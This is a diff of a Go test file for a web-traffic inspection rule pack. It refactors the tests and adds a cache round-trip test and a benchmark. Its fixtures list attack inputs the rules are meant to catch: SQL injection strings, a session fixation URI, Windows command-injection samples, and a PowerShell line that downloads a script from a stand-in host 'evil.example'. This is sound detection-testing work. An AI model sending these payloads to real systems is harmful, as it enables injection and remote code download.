@@ -1,14 +1,16 @@
-package rules
+package rules_test
 
 import (
 	"bytes"
 	"net/url"
-	"sort"
+	"reflect"
 	"strings"
 	"testing"
 
 	"github.com/deepwall/deepwall/dpi/proto"
 	dwhttp "github.com/deepwall/deepwall/dpi/proto/http"
+	"github.com/deepwall/deepwall/rules"
+	"github.com/deepwall/deepwall/rules/internal/ruletest"
 )
 
 // txn is one HTTP exchange as the DPI engine would present it.
@@ -19,48 +21,31 @@ type txn struct {
 	resp    string
 }
 
-var browserHeaders = [][2]string{
-	{"Host", "shop.example.com"},
-	{"User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"},
-	{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"},
-	{"Accept-Language", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7,fr;q=0.6"},
-	{"Accept-Encoding", "gzip, deflate, br, zstd"},
-	{"sec-ch-ua", `"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"`},
-	{"sec-ch-ua-mobile", "?0"},
-	{"sec-ch-ua-platform", `"Windows"`},
-	{"Sec-Fetch-Site", "same-origin"},
-	{"Sec-Fetch-Mode", "navigate"},
-	{"Referer", "https://shop.example.com/search?q=caf%C3%A9+cr%C3%A8me&sort=price_asc&page=2"},
-	{"Cookie", "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; session=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c; prefs=%7B%22theme%22%3A%22dark%22%2C%22lang%22%3A%22de%22%7D; cart=" + strings.Repeat("Zm9vYmFyYmF6cXV4", 180)},
-	{"If-None-Match", `W/"5e-18f3a1b2c4d"`},
-	{"Upgrade-Insecure-Requests", "1"},
-}
-
-func (t txn) fields() Fields {
-	f := Fields{}
-	f[Field{Kind: FieldHTTPMethod}] = []byte("GET")
-	f[Field{Kind: FieldHTTPURI}] = []byte(t.uri)
+func (t txn) fields() ruletest.Fields {
+	f := ruletest.Fields{}
+	f[rules.Field{Kind: rules.FieldHTTPMethod}] = []byte("GET")
+	f[rules.Field{Kind: rules.FieldHTTPURI}] = []byte(t.uri)
 	path, query, _ := strings.Cut(t.uri, "?")
-	f[Field{Kind: FieldHTTPPath}] = []byte(path)
+	f[rules.Field{Kind: rules.FieldHTTPPath}] = []byte(path)
 	if query != "" {
-		f[Field{Kind: FieldHTTPArgs}] = []byte(query)
+		f[rules.Field{Kind: rules.FieldHTTPArgs}] = []byte(query)
 	}
 	hdrs := t.headers
 	if hdrs == nil {
-		hdrs = browserHeaders
+		hdrs = rules.BrowserHeaders
 	}
 	var all strings.Builder
 	for _, h := range hdrs {
 		all.WriteString(h[0] + ": " + h[1] + "\r\n")
-		f[Field{Kind: FieldHTTPHeader, Name: strings.ToLower(h[0])}] = []byte(h[1])
+		f[rules.Field{Kind: rules.FieldHTTPHeader, Name: strings.ToLower(h[0])}] = []byte(h[1])
 	}
-	f[Field{Kind: FieldHTTPHeaders}] = []byte(all.String())
+	f[rules.Field{Kind: rules.FieldHTTPHeaders}] = []byte(all.String())
 	if t.body != "" {
-		f[Field{Kind: FieldHTTPBody}] = []byte(t.body)
-		f[Field{Kind: FieldHTTPMethod}] = []byte("POST")
+		f[rules.Field{Kind: rules.FieldHTTPBody}] = []byte(t.body)
+		f[rules.Field{Kind: rules.FieldHTTPMethod}] = []byte("POST")
 	}
 	if t.resp != "" {
-		f[Field{Kind: FieldHTTPResponseBody}] = []byte(t.resp)
+		f[rules.Field{Kind: rules.FieldHTTPResponseBody}] = []byte(t.resp)
 	}
 	return f
 }
@@ -69,14 +54,14 @@ func (t txn) fields() Fields {
 // the classic whole fields of fields(), plus each argument (query and
 // body, through the engine's own parsers), argument name, cookie, cookie
 // name, header value and name, and uploaded file name.
-func (t txn) values() Values {
-	v := Values{}
+func (t txn) values() ruletest.Values {
+	v := ruletest.Values{}
 	for f, b := range t.fields() {
-		v[f] = []Value{{Data: b}}
+		v[f] = []ruletest.Value{{Data: b}}
 	}
-	add := func(k FieldKind, name, data []byte) {
-		f := Field{Kind: k}
-		v[f] = append(v[f], Value{Name: bytes.Clone(name), Data: bytes.Clone(data)})
+	add := func(k rules.FieldKind, name, data []byte) {
+		f := rules.Field{Kind: k}
+		v[f] = append(v[f], ruletest.Value{Name: bytes.Clone(name), Data: bytes.Clone(data)})
 	}
 	sink := &packArgs{add: add}
 	if _, query, ok := strings.Cut(t.uri, "?"); ok {
@@ -101,11 +86,11 @@ func (t txn) values() Values {
 	}
 	hdrs := t.headers
 	if hdrs == nil {
-		hdrs = browserHeaders
+		hdrs = rules.BrowserHeaders
 	}
 	for _, h := range hdrs {
-		add(FieldHTTPHeaderValue, []byte(strings.ToLower(h[0])), []byte(h[1]))
-		add(FieldHTTPHeaderName, nil, []byte(h[0]))
+		add(rules.FieldHTTPHeaderValue, []byte(strings.ToLower(h[0])), []byte(h[1]))
+		add(rules.FieldHTTPHeaderName, nil, []byte(h[0]))
 		if !strings.EqualFold(h[0], "cookie") {
 			continue
 		}
@@ -114,8 +99,8 @@ func (t txn) values() Values {
 				continue
 			}
 			name, val, _ := strings.Cut(c, "=")
-			add(FieldHTTPCookie, []byte(name), []byte(val))
-			add(FieldHTTPCookieName, nil, []byte(name))
+			add(rules.FieldHTTPCookie, []byte(name), []byte(val))
+			add(rules.FieldHTTPCookieName, nil, []byte(name))
 		}
 	}
 	return v
@@ -123,20 +108,20 @@ func (t txn) values() Values {
 
 // packArgs collects what the engine's body parser reports.
 type packArgs struct {
-	add func(k FieldKind, name, data []byte)
+	add func(k rules.FieldKind, name, data []byte)
 }
 
 func (a *packArgs) Arg(name, value []byte) {
-	a.add(FieldHTTPArg, name, value)
-	a.add(FieldHTTPArgName, nil, name)
+	a.add(rules.FieldHTTPArg, name, value)
+	a.add(rules.FieldHTTPArgName, nil, name)
 }
 
-func (a *packArgs) File(field, filename []byte) { a.add(FieldHTTPFile, field, filename) }
+func (a *packArgs) File(field, filename []byte) { a.add(rules.FieldHTTPFile, field, filename) }
 
-func (a *packArgs) PartHeader(line []byte) { a.add(FieldHTTPPartHeader, nil, line) }
+func (a *packArgs) PartHeader(line []byte) { a.add(rules.FieldHTTPPartHeader, nil, line) }
 
 func withHeader(name, value string) [][2]string {
-	h := append([][2]string{}, browserHeaders...)
+	h := append([][2]string{}, rules.BrowserHeaders...)
 	for i := range h {
 		if strings.EqualFold(h[i][0], name) {
 			h[i][1] = value
@@ -291,8 +276,9 @@ var packAttacks = []struct {
 	{"sqli function json", "sqli", txn{uri: "/api/items", body: `{"id":"1 and ascii(substring(version(),1,1))>52"}`}},
 	{"sqli user agent", "sqli", txn{uri: "/", headers: withHeader("User-Agent", "x' or 1=1-- -")}},
 	{"session fixation", "session", txn{uri: "/login?jsessionid=0123456789abcdef"}},
-	// Classes added for the CRS suite's PL1-2 tests (issue 8): each
-	// attack below has a near-miss in packBenign.
+	// Classes added so the pack catches the attacks of the Core Rule Set's
+	// regression tests at paranoia levels 1-2: each attack below has a
+	// near miss in packBenign.
 	{"rce windows if compare", "rce", txn{uri: "/run?x=" + q(`IF %ERRORLEVEL% NEQ 0 echo test`)}},
 	{"rce windows if quoted", "rce", txn{uri: "/run?x=" + q(`if "%1"=="" goto ERROR`)}},
 	{"rce powershell cmdlet", "rce", txn{uri: "/run", body: "c=" + q("Invoke-WebRequest http://evil.example/x.ps1")}},
@@ -431,7 +417,8 @@ var packBenign = []struct {
 	{"proxy path headers", txn{uri: "/account", headers: append(withHeader("X-Original-URL", "/account/settings?tab=security"), [2]string{"X-Request-Start", "t=1700000000123"})}},
 	{"form select and order words", txn{uri: "/feedback", body: "text=" + q("Please select a size and order by Friday; or call us at 555-0100 (ext. 2).")}},
 	{"response mentions aws generically", txn{uri: "/docs", resp: "Set AWS_SECRET_ACCESS_KEY in your environment; never commit it. See https://docs.aws.amazon.com/."}},
-	// Near misses of the classes added for issue 8.
+	// Near misses of the classes added for the Core Rule Set's regression
+	// tests.
 	{"alias in a sentence", txn{uri: "/post", body: "text=" + q("I see, so your alias is not = to your name")}},
 	{"uname parameter", txn{uri: "/post", body: "uname=john+doe&id=7&sort=time"}},
 	{"server localhost without slash", txn{uri: "/get/test?server=localhost"}},
@@ -449,45 +436,22 @@ var packBenign = []struct {
 	{"question in quotes", txn{uri: "/post", body: "q=" + q(`what does 'x' ? 'y' mean`)}},
 }
 
-func compiledPack(tb testing.TB) (*Compiled, *Set) {
-	tb.Helper()
-	set, err := DefaultPack()
-	if err != nil {
-		tb.Fatal(err)
-	}
-	c, err := Compile(set)
-	if err != nil {
-		tb.Fatal(err)
-	}
-	tb.Cleanup(func() { c.Close() })
-	return c, set
-}
-
-func evalTxn(tb testing.TB, c *Compiled, t txn) []*Rule {
+func evalTxn(tb testing.TB, c *rules.Compiled, t txn) []*rules.Rule {
 	tb.Helper()
 	s, err := c.NewScratch()
 	if err != nil {
 		tb.Fatal(err)
 	}
 	defer s.Free()
-	hits, err := c.EvalValues(t.values(), s)
+	hits, err := ruletest.EvalValues(c, t.values(), s)
 	if err != nil {
 		tb.Fatal(err)
 	}
 	return hits
 }
 
-func ruleIDs(rs []*Rule) []uint32 {
-	out := make([]uint32, len(rs))
-	for i, r := range rs {
-		out[i] = r.ID
-	}
-	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
-	return out
-}
-
 func TestDefaultPackDetects(t *testing.T) {
-	c, _ := compiledPack(t)
+	c, _ := rules.CompiledPack(t)
 	for _, tc := range packAttacks {
 		t.Run(tc.name, func(t *testing.T) {
 			hits := evalTxn(t, c, tc.t)
@@ -496,13 +460,13 @@ func TestDefaultPackDetects(t *testing.T) {
 					return
 				}
 			}
-			t.Errorf("%s: no %s rule hit %+v (hits: %v)", tc.name, tc.category, tc.t, ruleIDs(hits))
+			t.Errorf("%s: no %s rule hit %+v (hits: %v)", tc.name, tc.category, tc.t, rules.RuleIDs(hits))
 		})
 	}
 }
 
 func TestDefaultPackNoFalsePositives(t *testing.T) {
-	c, _ := compiledPack(t)
+	c, _ := rules.CompiledPack(t)
 	for _, tc := range packBenign {
 		t.Run(tc.name, func(t *testing.T) {
 			if hits := evalTxn(t, c, tc.t); len(hits) > 0 {
@@ -511,5 +475,37 @@ func TestDefaultPackNoFalsePositives(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestCacheRoundTripHits checks that the databases UnmarshalCompiled
+// restores find what the compiled ones find.
+func TestCacheRoundTripHits(t *testing.T) {
+	c, set := rules.CompiledPack(t)
+	data, err := c.MarshalBinary()
+	if err != nil {
+		t.Fatal(err)
+	}
+	c2, err := rules.UnmarshalCompiled(set, data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c2.Close()
+	for _, tc := range packAttacks[:20] {
+		if a, b := rules.RuleIDs(evalTxn(t, c, tc.t)), rules.RuleIDs(evalTxn(t, c2, tc.t)); !reflect.DeepEqual(a, b) {
+			t.Errorf("%s: compiled hits %v, restored %v", tc.name, a, b)
+		}
+	}
+}
+
+func BenchmarkPackEval(b *testing.B) {
+	c, _ := rules.CompiledPack(b)
+	s := rules.Scratch(b, c)
+	f := packBenign[16].t.fields() // the JSON API post
+	b.ReportAllocs()
+	for b.Loop() {
+		if _, err := ruletest.Eval(c, f, s); err != nil {
+			b.Fatal(err)
+		}
 	}
 }
